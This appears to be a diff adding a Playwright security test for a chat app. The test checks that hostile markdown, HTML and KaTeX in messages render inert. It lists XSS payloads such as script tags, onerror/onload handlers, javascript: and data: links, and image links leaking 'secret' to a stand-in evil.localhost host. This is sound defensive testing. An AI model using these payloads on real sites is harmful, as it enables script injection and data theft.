@@ -1,0 +1,102 @@
+import type { Page } from "@playwright/test";
+import { BASE_PORT } from "../fixtures/env.ts";
+import { fakeMarker, registerFakeReply } from "../fakes/scripted-replies.ts";
+import { openFakeProviderChat } from "../pages/chat-page.ts";
+import { expect, test } from "../fixtures/test.ts";
+
+// Every payload, if it ran, would set window.__pwned or open a dialog; the images would call
+// another origin (evil.localhost resolves to loopback; nothing listens on port 9, the request is
+// what counts).
+const HOSTILE = [
+  "Hostile sample",
+  "<script>window.__pwned = 1</script>",
+  '<img src="x" onerror="window.__pwned = 2; alert(2)">',
+  '<svg onload="window.__pwned = 3"><script>window.__pwned = 31</script></svg>',
+  '<a href="javascript:window.__pwned = 4">raw link</a> <iframe src="javascript:alert(6)"></iframe>',
+  "[js link](javascript:window.__pwned=5) [data link](data:text/html,<script>alert(7)</script>)",
+  "![pixel](http://evil.localhost:9/pixel.png?q=secret) ![relative-less](//evil.localhost:9/p.png)",
+  "Inline $\\href{javascript:window.__pwned=8}{katex link}$ and $\\htmlData{foo=bar}{x}$ and $\\url{javascript:alert(9)}$.",
+  "$$\n\\href{javascript:alert(10)}{display link}\n$$",
+].join("\n\n");
+
+/** Fails the test on any dialog, and records every host the page talks to. */
+function watch(page: Page): { dialogs: string[]; hosts: Set<string> } {
+  const seen = { dialogs: [] as string[], hosts: new Set<string>() };
+  page.on("dialog", (dialog) => {
+    seen.dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  page.on("request", (request) => {
+    const url = new URL(request.url());
+    if (url.protocol === "http:" || url.protocol === "https:") seen.hosts.add(url.host);
+  });
+  return seen;
+}
+
+/** A PATCH from the page: *.localhost resolves there (Chromium) and the CSRF cookie is readable. */
+async function patchFromPage(page: Page, path: string, body: unknown): Promise<void> {
+  const status = await page.evaluate(
+    async ({ path, body }) => {
+      const csrf = /(?:^|; )parley_csrf=([^;]*)/.exec(document.cookie)?.[1] ?? "";
+      const response = await fetch(path, {
+        method: "PATCH",
+        headers: { "content-type": "application/json", "x-csrf-token": decodeURIComponent(csrf) },
+        body: JSON.stringify(body),
+      });
+      return response.status;
+    },
+    { path, body },
+  );
+  expect(status, `PATCH ${path}`).toBe(200);
+}
+
+/**
+ * LaTeX on for both sides: users' messages follow the conversation's view settings, replies the
+ * member's own Latex view (behaviour settings) — the calls the view toggles make.
+ */
+async function enableLatex(page: Page, conversationId: string): Promise<void> {
+  await patchFromPage(page, `/api/v1/conversations/${conversationId}/`, {
+    view_settings: { userLatexView: true, assistantLatexView: true },
+  });
+  await patchFromPage(page, "/api/v1/members/behavior_settings/", { markdown_view: true, latex_view: true });
+}
+
+test("script, handlers, javascript: links, SVG, KaTeX commands and remote images render inert", async ({
+  page,
+}) => {
+  const seen = watch(page);
+  await registerFakeReply("hostile", { text: HOSTILE });
+  const chat = await openFakeProviderChat(page);
+  const reply = await chat.sendAndSettle(`${HOSTILE}\n\n${fakeMarker("hostile")}`);
+  await expect(reply).toHaveAttribute("data-status", "complete");
+  const conversationId = /\/conversations\/(\d+)$/.exec(page.url())?.[1] ?? "";
+  await enableLatex(page, conversationId);
+  await page.reload();
+  await expect(chat.assistantReplies().first()).toBeVisible();
+
+  const prompt = chat.userMessages().first();
+  const answer = chat.assistantReplies().first();
+  for (const message of [prompt, answer]) {
+    // Raw HTML stays visible as text; unsafe links keep their words and lose the link.
+    await expect(message).toContainText("<script>window.__pwned = 1</script>");
+    await expect(message).toContainText("js link");
+    await expect(message.locator(".katex").first()).toBeVisible();
+    await expect(message.locator("script, iframe, object, embed")).toHaveCount(0);
+    await expect(message.locator("[onerror], [onload], [data-foo]")).toHaveCount(0);
+    await expect(message.locator("a[href^='javascript' i], a[href^='data' i]")).toHaveCount(0);
+    await expect(message.locator("img")).toHaveCount(0);
+    await expect(message.getByTestId("markdown.remote-image")).toHaveCount(2);
+    // Clicking what looked like links does nothing.
+    await message.getByText("js link").click();
+    await message.locator(".katex").first().click();
+  }
+  // The user's message collapses above 500 characters; open it so every payload is on the page.
+  const more = prompt.getByTestId("message.show-more");
+  if (await more.isVisible()) await more.click();
+  await expect(page.locator("a[href^='javascript' i]")).toHaveCount(0);
+
+  // Every payload had its chance: the page rendered, was clicked and the reply settled.
+  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
+  expect(seen.dialogs).toEqual([]);
+  expect([...seen.hosts]).toEqual([`acme.localhost:${BASE_PORT}`]);
+});
